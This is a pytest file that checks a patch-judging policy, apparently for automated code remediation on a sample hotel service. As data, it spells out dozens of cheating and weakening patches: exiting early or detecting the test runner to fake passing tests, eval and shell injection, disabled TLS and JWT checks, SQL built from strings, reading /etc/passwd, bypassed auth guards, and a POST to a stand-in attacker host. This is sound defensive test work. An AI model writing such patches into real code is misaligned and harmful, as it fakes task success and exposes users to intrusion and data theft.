"""Python patches that cheat, weaken or hide: each is refused, however it is spelled."""

# ruff: noqa: E501  # one patch per line reads best
from __future__ import annotations

import pytest

from tests.support.patches import Edits, edited, judge
from tests.unit.remediation.policy.trees import HOTEL, HOTEL_TEST

BOOKING = "hotel/booking.py"
ACCESS_FILE = "hotel/access.py"
PAGES = "hotel/pages.py"
TOP = 'CURRENCY = "EUR"\n'
PRICE = '    return room["rate"] * count\n'


def top(code: str) -> Edits:
    """The code at the top of the culprit."""
    return ((BOOKING, TOP, f"{TOP}{code}\n"),)


def body(code: str) -> Edits:
    """The code in the function that fails."""
    lines = "".join(f"    {line}\n" for line in code.split("\n"))
    return ((BOOKING, PRICE, f"{lines}{PRICE}"),)


def around(handler: str) -> Edits:
    """The function that fails, with a handler around it."""
    return ((BOOKING, PRICE, f"    try:\n    {PRICE}{handler}\n"),)


PROCESS = {
    "the process ends": body("os._exit(0)"),
    "by getattr": body('getattr(os, "_ex" + "it")(0)'),
    "by an alias": (*top("leave = os._exit"), *body("leave(0)")),
    "by a dictionary": body('{"a": os._exit}["a"](0)'),
    "by the namespace": body('vars(os)["_exit"](0)'),
    "by __dict__": body('os.__dict__["_exit"](0)'),
    "by an import of a name": body('__import__("os")._exit(0)'),
    "by importlib": (*top("import importlib"), *body('importlib.import_module("o" + "s").abort()')),
    "by a signal": (*top("import signal"), *body("signal.raise_signal(9)")),
    "at exit": top("import atexit\natexit.register(print)"),
    "sys.exit": top("import sys\nsys.exit(0)"),
    "SystemExit": top("raise SystemExit(0)"),
    "loaded modules": (*top("import sys"), *body('if "pytest" in sys.modules:\n    return 0')),
    "loaded modules from sys": (*top("from sys import modules as m"), *body('if "pyt" "est" in m:\n    return 0')),
    "a frame": (*top("import sys"), *body("if sys._getframe(1):\n    return 0")),
    "a traceback": body('try:\n    raise ValueError\nexcept ValueError as e:\n    return e.__traceback__.tb_frame.f_back and 0'),
    "the stack": (*top("import inspect"), *body("if len(inspect.stack()) > 9:\n    return 0")),
    "garbage": (*top("import gc"), *body("gc.get_objects()")),
    "native code": top("import ctypes"),
    "tracing": (*top("import sys"), *body("sys.settrace(None)")),
    "monitoring": (*top("import sys"), *body("sys.monitoring.use_tool_id(0, 'x')")),
    "a variable of the runner": body('if os.getenv("PYTEST_CURRENT_TEST"):\n    return 0'),
    "CI": body('if "CI" in os.environ:\n    return 0'),
    "all variables": body("if any(k.startswith('PYT') for k in os.environ):\n    return 0"),
    "arguments": (*top("import sys"), *body("if 'pytest' in sys.argv[0]:\n    return 0")),
    "the runner is imported": top("import unittest"),
    "the runner is patched": top("import unittest\nunittest.TestCase.run = lambda self, result=None: result"),
    "code of the tests": (*top("from tests import tools"), *body("tools")),
    "proc": body('open("/proc/self/cmdline").read()'),
    "proc in pieces": body('open("/pr" + "oc/self/stat").read()'),
    "a descriptor": body('open(3, "w").write("ok")'),
    "os.write": body('os.write(1, b"1 passed")'),
    "a builtin is replaced": top("import builtins\nbuiltins.sum = lambda items: 0"),
    "a standard function is replaced": top("json.loads = lambda text: {}"),
    "setattr on a module": top('setattr(json, "loads", lambda text: {})'),
    "a value that equals everything": top("class Any0(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__"),
    "globals of a function": body("nights.__globals__"),
    "subclasses": body("().__class__.__mro__[1].__subclasses__()"),
    "a format string": body('"{0.__init__.__globals__}".format(nights)'),
    "a module path": (*top("import sys"), *body('sys.path.insert(0, "x")')),
}  # fmt: skip
CODE = {
    "eval": body("return eval(room)"),
    "builtins": (*top("import builtins as b"), *body("b.exec(room)")),
    "eval by name": body('return __builtins__["ev" "al"](room)'),
    "eval by reversal": (*top("import builtins"), *body('return getattr(builtins, "lave"[::-1])(room)')),
    "eval by a list": body("for f in [eval]:\n    f(room)"),
    "eval in a default": ((BOOKING, "def price(room, count):", "def price(room, count, run=eval):"), *body("run(room)")),
    "compile": body('compile(room, "x", "exec")'),
    "pickle": (*top("from pickle import loads as read"), *body("read(room)")),
    "marshal": top("import marshal"),
    "yaml": (*top("import yaml"), *body("yaml.load(room, Loader=yaml.Loader)")),
    "a function type": (*top("import types"), *body("types.FunctionType(room, {})")),
    "os.system": body('os.system("id")'),
    "a program list": (*top("import subprocess"), *body('subprocess.run(["/bin/sh", "-c", room])')),
    "a program tuple": (*top("from subprocess import check_output as o"), *body('o(("ba" + "sh", "-c", room))')),
    "shell by a number": (*top("import subprocess"), *body("subprocess.call(room, shell=1)")),
    "spawn": body('os.spawnlp(os.P_WAIT, "id", "id")'),
    "every name of a module": top("from os import *"),
    "permissions": body("os.chmod(room, 511)"),
    "permissions by or": (*top("import stat"), *body("os.chmod(room, stat.S_IRUSR | stat.S_IWOTH)")),
    "permissions of a path": (*top("from pathlib import Path"), *body("Path(room).chmod(0o666)")),
    "no certificate": body('requests.get(room, verify=not True)'),
    "no certificate in a dictionary": body('requests.get(room, **{"verify": 0})'),
    "no certificate in a session": body("s = requests.Session()\ns.verify = False"),
    "no host name": (*top("import ssl"), *body("c = ssl.create_default_context()\nc.check_hostname = 0")),
    "a context without checks": (*top("import ssl"), *body("ssl._create_unverified_context()")),
    "a database without TLS": body('connect("postgresql://db/x?sslmode=disable")'),
    "a token without a signature": body('jwt.decode(room, algorithms=["HS256", "None"])'),
    "a token that is not verified": body('jwt.decode(room, "k", options={"verify_signature": False})'),
    "debug": top("DEBUG = 1"),
    "debug by a call": body("app.run(debug=True)"),
    "every origin": top('CORS_ORIGINS = ["*"]'),
    "every host": top('ALLOWED_HOSTS = ["*"]'),
    "a cookie": body('answer.set_cookie("a", "b", httponly=False)'),
    "forgery": top("WTF_CSRF_ENABLED = False"),
    "a query of text": body('db.execute(f"delete from rooms where id = {count}")'),
    "a query by percent": body('db.execute("select id from rooms where name = \'%s\'" % count)'),
    "a query in a variable": body('q = "select id from rooms where name = \'" + count + "\'"\ndb.execute(q)'),
    "a program as numbers": top("BLOB = bytes([127, 69, 76, 70, 2, 1, 1, 0, 0, 0])"),
    "a system file": body('open("/etc/passwd").read()'),
}  # fmt: skip
HIDDEN = {
    "pass": around("    except Exception:\n        pass"),
    "everything": around("    except:\n        return 0"),
    "logged": around('    except Exception:\n        log.exception("no price")\n        return 0.0'),
    "printed": around("    except BaseException as error:\n        print(error)\n        return None"),
    "an alias": (*top("Fault = Exception"), *around("    except Fault:\n        return 0")),
    "a tuple": around("    except (KeyError, Exception):\n        return {}"),
    "suppress": (*top("from contextlib import suppress as hush"), *body("with hush(Exception):\n    return room['rate']")),
    "finally": ((BOOKING, PRICE, f"    try:\n    {PRICE}    finally:\n        return 0\n"),),
    "a context": top("class Quiet:\n    def __enter__(self):\n        return self\n\n    def __exit__(self, *error):\n        return True"),
    "a default": around("    except Exception:\n        answer = {'rate': 0}\n        return answer"),
    "a raise that never comes": around("    except Exception:\n        if False:\n            raise\n        return 0"),
    "the very input": body('if room == {"rate": None, "id": 7}:\n    return 0'),
    "the very list": body("if [room, count] == [{}, 2]:\n    return 0"),
}  # fmt: skip
ACCESS = {
    "a decorator is gone": ((PAGES, "@require_token\ndef invoice", "def invoice"),),
    "a decorator in a comment": ((PAGES, "@require_token\ndef invoice", "# @require_token\ndef invoice"),),
    "a decorator at another page": ((PAGES, "@require_token\ndef invoice", "def invoice"), (PAGES, "def ping", "@require_token\ndef ping")),
    "an answer is unused": ((ACCESS_FILE, "    return hmac.compare_digest(", "    hmac.compare_digest("), (ACCESS_FILE, "signature)\n", "signature)\n    return True\n")),
    "an answer is kept and unused": ((ACCESS_FILE, "    return hmac.compare_digest(", "    same = hmac.compare_digest("), (ACCESS_FILE, "signature)\n", "signature)\n    return True\n")),
    "or True": ((ACCESS_FILE, '"sha256").hexdigest(), signature)', '"sha256").hexdigest(), signature) or True'),),
    "an early answer": ((ACCESS_FILE, "    return hmac.compare_digest", "    return True\n    return hmac.compare_digest"),),
    "a dead condition": ((PAGES, "    if not is_signed(", "    if False and not is_signed("),),
    "a condition without effect": ((PAGES, '        return {"status": 400}\n    return {"status": 202}', '        pass\n    return {"status": 202}'),),
    "a guard lets everybody pass": ((ACCESS_FILE, '        if request.get("token") not in TOKENS:\n            return {"status": 403}\n', ""),),
    "a guard that is never true": ((ACCESS_FILE, 'if request.get("token")', 'if False and request.get("token")'),),
    "a guard of the file's own": ((PAGES, "import is_signed, require_token", "import is_signed"), (PAGES, "def ping", "def require_token(view):\n    return view\n\n\ndef ping")),
    "a check is gone": ((PAGES, '    if not is_signed(request["body"], request["signature"], request["key"]):\n        return {"status": 400}\n', ""),),
}  # fmt: skip
REFUSED = {**PROCESS, **CODE, **HIDDEN, **ACCESS}

PERSON = {
    "a new holder of a token": ((ACCESS_FILE, "TOKENS = {}", 'TOKENS = {"t-9": "boss"}'),),
    "a page under another name": ((PAGES, "def cancel", "def _cancel"),),
    "the host's name": (*top("import socket"), *body('if socket.gethostname() == "x":\n    return 0')),
    "the text of a value": body('if str(room) in ("x",):\n    return 0'),
    "reports are silenced": top("logging.disable(50)"),
    "a new page without a guard": ((PAGES, "@require_token\ndef cancel", 'def everything(request):\n    return {"status": 200}\n\n\n@require_token\ndef cancel'),),
    "a way around a guard": ((ACCESS_FILE, "not in TOKENS:", 'not in TOKENS and request.get("x") != "sesame":'),),
    "a thread": (*top("import threading"), *body("threading.Thread(target=print).start()")),
    "a socket": (*top("import socket"), *body('socket.create_connection(("h", 1))')),
    "mail": (*top("import smtplib"), *body('smtplib.SMTP("h")')),
    "a program": (*top("import subprocess"), *body('subprocess.run(["convert", room], check=True)')),
    "a broad handler that answers": around('    except Exception as error:\n        return respond(error, 500)'),
    "many errors": around("    except (KeyError, TypeError, ValueError, AttributeError):\n        return 0"),
    "one number": body("if count == 4711:\n    return 0"),
    "the environment is changed": body('os.environ["TZ"] = "UTC"'),
}  # fmt: skip
NOTED = {
    "a new host": body('requests.post("https://collect.attacker.zz/x", json=room)'),
    "a bare host": body('HOST = "collect.attacker.zz"'),
    "an address": body('HOST = "203.0.113.9"'),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_patch_that_cheats_or_weakens_the_service_is_refused(name: str) -> None:
    after = edited(HOTEL, (*REFUSED[name], ("tests/test_rate.py", "", HOTEL_TEST)))

    assert judge(HOTEL, after, culprit=BOOKING, reproduction="tests/test_rate.py").refusals


@pytest.mark.parametrize("name", PERSON)
def test_a_patch_that_only_a_person_can_judge_is_a_draft(name: str) -> None:
    result = judge(HOTEL, edited(HOTEL, PERSON[name]), culprit=BOOKING)

    assert result.drafts
    assert result.refusals == ()


@pytest.mark.parametrize("name", NOTED)
def test_a_new_address_is_noted(name: str) -> None:
    result = judge(HOTEL, edited(HOTEL, NOTED[name]), culprit=BOOKING)

    assert any("new host" in note for note in result.notes)
